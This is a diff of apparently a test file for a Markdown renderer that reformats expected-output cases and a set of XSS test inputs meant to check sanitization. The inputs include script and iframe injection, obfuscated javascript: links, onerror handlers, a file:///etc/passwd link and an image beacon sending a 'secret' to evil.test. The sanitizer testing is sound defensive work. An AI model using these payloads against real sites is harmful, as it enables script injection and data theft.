@@ -24,26 +24,35 @@ LONGEST_S = 2.0  # for 100,000 characters; what goes back over its text takes mi
 SHOWN = [
     ("one\ntwo\n\nthree", "<p>one<br>two</p><p>three</p>"),
     ("# A `b`\n## C ##\ntext", "<h3>A <code>b</code></h3><h4>C</h4><p>text</p>"),
-    ("**a** *b* ***c*** _d_ __e__ ~~f~~", "<p><strong>a</strong> <em>b</em> <strong><em>c</em></strong> <em>d</em> <strong>e</strong> <del>f</del></p>"),
+    ("**a** *b* ***c*** _d_ __e__ ~~f~~", "<p><strong>a</strong> <em>b</em> <strong><em>c</em></strong> "
+     "<em>d</em> <strong>e</strong> <del>f</del></p>"),
     ("**a *b* c** 2 * 3 * 4 snake_case_name", "<p><strong>a <em>b</em> c</strong> 2 * 3 * 4 snake_case_name</p>"),
     ("*a **b*** and **a *b***", "<p><em>a <strong>b</strong></em> and <strong>a <em>b</em></strong></p>"),
     ("`a *b*` ``c ` d`` \\*e\\*", "<p><code>a *b*</code> <code>c ` d</code> *e*</p>"),
     ("*never closed", "<p>*never closed</p>"),
     ("1. a\n2. b\n3. c", "<ol><li><p>a</p></li><li><p>b</p></li><li><p>c</p></li></ol>"),
-    ("3. a\n   - b\n     - c\n4. d", '<ol start="3"><li><p>a</p><ul><li><p>b</p><ul><li><p>c</p></li></ul></li></ul></li><li><p>d</p></li></ol>'),
+    ("3. a\n   - b\n     - c\n4. d", '<ol start="3"><li><p>a</p>'
+     '<ul><li><p>b</p><ul><li><p>c</p></li></ul></li></ul></li>'
+     '<li><p>d</p></li></ol>'),
     ("1. a\n  - b\n2. c", "<ol><li><p>a</p><ul><li><p>b</p></li></ul></li><li><p>c</p></li></ol>"),
-    ("- a\n\n  ```\n  x\n   y\n  ```\n- b", "<ul><li><p>a</p><figure><pre><code>x\n y</code></pre></figure></li><li><p>b</p></li></ul>"),
+    ("- a\n\n  ```\n  x\n   y\n  ```\n- b", "<ul><li><p>a</p><figure><pre><code>x\n y</code></pre></figure></li>"
+     "<li><p>b</p></li></ul>"),
     ("- [x] done\n- [ ] open", "<ul><li><input checked=\"\"><p>done</p></li><li><input><p>open</p></li></ul>"),
     ("text\n- a\n- b", "<p>text</p><ul><li><p>a</p></li><li><p>b</p></li></ul>"),
     ("> a\n> > b\n\nc", "<blockquote><p>a</p><blockquote><p>b</p></blockquote></blockquote><p>c</p>"),
     ("```python\na < b\n```\nafter", "<figure><pre><code>a &lt; b</code></pre></figure><p>after</p>"),
     ("````\n```\n````", "<figure><pre><code>```</code></pre></figure>"),
     ("```\nnot closed", "<figure><pre><code>not closed</code></pre></figure>"),
-    ("a|b\n-|:-:\n1|2|3\nx\\|y|z", "<div><table><thead><tr><th>a</th><th>b</th></tr></thead><tbody><tr><td>1</td><td>2</td></tr><tr><td>x|y</td><td>z</td></tr></tbody></table></div>"),
+    ("a|b\n-|:-:\n1|2|3\nx\\|y|z", "<div><table><thead><tr><th>a</th><th>b</th></tr></thead>"
+     "<tbody><tr><td>1</td><td>2</td></tr><tr><td>x|y</td><td>z</td></tr></tbody></table></div>"),
     ("a\n\n---\n\nb", "<p>a</p><hr><p>b</p>"),
     ("[a *b*](https://example.org/x_(y) \"t\")", '<p><a href="https://example.org/x_(y)">a <em>b</em></a></p>'),
-    ("see https://example.org/a_b?c=d. (http://example.org/(x))", '<p>see <a href="https://example.org/a_b?c=d">https://example.org/a_b?c=d</a>. (<a href="http://example.org/(x)">http://example.org/(x)</a>)</p>'),
-    ("<https://example.org/> <mailto:a@example.org> a<br>b", '<p><a href="https://example.org/">https://example.org/</a> <a href="mailto:a@example.org">mailto:a@example.org</a> a<br>b</p>'),
+    ("see https://example.org/a_b?c=d. (http://example.org/(x))",
+     '<p>see <a href="https://example.org/a_b?c=d">https://example.org/a_b?c=d</a>. '
+     '(<a href="http://example.org/(x)">http://example.org/(x)</a>)</p>'),
+    ("<https://example.org/> <mailto:a@example.org> a<br>b",
+     '<p><a href="https://example.org/">https://example.org/</a> '
+     '<a href="mailto:a@example.org">mailto:a@example.org</a> a<br>b</p>'),
     ("\\(a_1 * b\\) and 3 < 4", "<p><code>\\(a_1 * b\\)</code> and 3 &lt; 4</p>"),
     ("[[a](https://a.org)](https://b.org)", '<p><a href="https://b.org/">[a](https://a.org)</a></p>'),
 ]  # fmt: skip
@@ -56,9 +65,11 @@ ATTACKS = {
     "iframe": '<iframe src="https://evil.test/"></iframe><object data="https://evil.test/"></object>',
     "style": "<style>@import 'https://evil.test/a.css'; body { display: none }</style>",
     "javascript": "[a](javascript:window.hacked=4) [b](JaVaScRiPt:window.hacked=5) <javascript:window.hacked=6>",
-    "encoded": "[a](java\tscript:window.hacked=7) [b](&#106;avascript:window.hacked=8) [c](\x01javascript:window.hacked=9)",
+    "encoded": "[a](java\tscript:window.hacked=7) [b](&#106;avascript:window.hacked=8) "
+    "[c](\x01javascript:window.hacked=9)",
     "data": "[a](data:text/html,<script>window.hacked=10</script>) [b](vbscript:x) [c](file:///etc/passwd) [d](blob:x)",
-    "picture": "![beacon](https://evil.test/steal?q=secret) ![x](javascript:window.hacked=11) ![][1]\n\n[1]: https://evil.test/",
+    "picture": "![beacon](https://evil.test/steal?q=secret) ![x](javascript:window.hacked=11) "
+    "![][1]\n\n[1]: https://evil.test/",
     "link_with_picture": "[![a](https://evil.test/a.png)](javascript:window.hacked=12)",
     "attribute": '[a](https://evil.test/"onmouseover="window.hacked=13) <a href="javascript:window.hacked=14">x</a>',
     "title": '[a](https://evil.test/ "x\\" onclick=\\"window.hacked=15")',
@@ -67,8 +78,10 @@ ATTACKS = {
     "language": '```"><script>window.hacked=16</script>\ncode\n```',
     "table": "| a |\n|---|\n| <img src=x onerror=window.hacked=17> |",
     "heading": "# <img src=x onerror=window.hacked=18>",
-    "form": '<form action="https://evil.test/"><input name=key><button>Send</button></form><base href="https://evil.test/">',
-    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.test/"><link rel=stylesheet href="https://evil.test/">',
+    "form": '<form action="https://evil.test/"><input name=key><button>Send</button></form>'
+    '<base href="https://evil.test/">',
+    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.test/">'
+    '<link rel=stylesheet href="https://evil.test/">',
 }  # fmt: skip
 ELEMENTS = "script, img, svg:not(.rates), iframe, object, embed, style, form, base, meta, link, video, audio, source"
 
@@ -152,7 +165,8 @@ LINKS_AND_LISTENERS = """() => {
   return {
     addresses: links.map((one) => one.getAttribute("href")),
     relations: links.map((one) => one.rel),
-    listeners: all.flatMap((one) => [...one.attributes]).map(({ name }) => name).filter((name) => /^on|^style$|^srcdoc$/.test(name)),
+    listeners: all.flatMap((one) => [...one.attributes]).map(({ name }) => name)
+      .filter((name) => /^on|^style$|^srcdoc$/.test(name)),
   };
 }"""
 
